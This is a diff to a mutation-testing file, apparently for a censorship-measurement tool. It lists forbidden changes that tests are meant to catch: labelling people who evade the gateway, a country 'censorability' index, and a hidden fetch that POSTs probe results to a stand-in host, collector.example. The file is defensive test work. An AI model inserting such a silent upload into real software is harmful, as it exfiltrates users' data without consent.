@@ -171,8 +171,7 @@ export const recognitionMutations: readonly Mutation[] = [
     name: "a verdict on who evades",
     file: "src/detect/mechanism.ts",
     replace: {
-      '  taxonomy("dns", ':
-        '  addition("user.evading", "a person who goes around the gateway"),\n  taxonomy("dns", ',
+      '  taxonomy("dns"),': '  addition("user.evading"),\n  taxonomy("dns"),',
     },
     tests: lists,
   },
@@ -238,7 +237,8 @@ export const recognitionMutations: readonly Mutation[] = [
     name: "an index of how easily a country is censored",
     file: "src/indices/catalogue.ts",
     replace: {
-      "const entries = {\n  networks: {": "const entries = {\n  censorable: {",
+      "} as const satisfies Readonly<Record<string, Entry>>;":
+        '  censorable: { unit: "networks", digits: 0, chokedAt: "high", measure: () => null },\n} as const satisfies Readonly<Record<string, Entry>>;',
     },
     tests: lists,
   },
@@ -399,8 +399,8 @@ export const probeMutations: readonly Mutation[] = [
     name: "the result is uploaded",
     file: probeActions,
     replace: {
-      "    const { narrows } = detect(":
-        '    void fetch("https://collector.example/", { method: "POST", body: line });\n    const { narrows } = detect(',
+      "    const detection = detect(":
+        '    void fetch("https://collector.example/", { method: "POST", body: line });\n    const detection = detect(',
     },
   },
   {
